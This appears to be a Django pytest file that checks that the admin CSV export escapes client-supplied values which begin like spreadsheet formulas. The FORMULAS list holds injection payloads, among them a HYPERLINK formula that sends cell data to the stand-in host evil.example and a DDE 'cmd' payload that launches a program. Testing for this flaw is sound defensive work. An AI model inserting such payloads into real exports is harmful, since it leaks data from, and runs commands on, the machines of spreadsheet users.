"""The admin's CSV export never hands a spreadsheet a formula written by a client."""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from items.models import ItemIdentifier

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def exported_rows(staff_user, changelist: str, objects) -> list[dict[str, str]]:
    browser = Client()
    browser.force_login(staff_user)
    response = browser.post(
        reverse(changelist),
        {"action": "export_as_csv", "_selected_action": [str(obj.pk) for obj in objects]},
    )
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_identifier_values_starting_a_formula_are_exported_as_text(auth_client, staff_user):
    identifiers = [{"key": f"lot{i}", "value": formula} for i, formula in enumerate(FORMULAS)]
    response = auth_client.post("/api/items", {"identifiers": identifiers}, format="json")
    assert response.status_code in (200, 201), response.content[:300]
    rows = exported_rows(
        staff_user, "admin:items_itemidentifier_changelist", ItemIdentifier.objects.all()
    )
    exported = {row["key"]: row["value"] for row in rows}
    for i, formula in enumerate(FORMULAS):
        stored = ItemIdentifier.objects.get(key=f"lot{i}").value
        assert exported[f"lot{i}"] == "'" + stored
        assert stored.strip() == formula.strip()


def test_plain_values_and_negative_numbers_are_exported_unchanged(user, staff_user):
    from accounts.services.staff import credits_adjust

    ledger_row = credits_adjust(admin=staff_user, user=user, amount=-5, reason="correction")
    rows = exported_rows(staff_user, "admin:accounts_credittransaction_changelist", [ledger_row])
    assert rows[0]["amount"] == "-5"
    assert rows[0]["description"] == "correction"
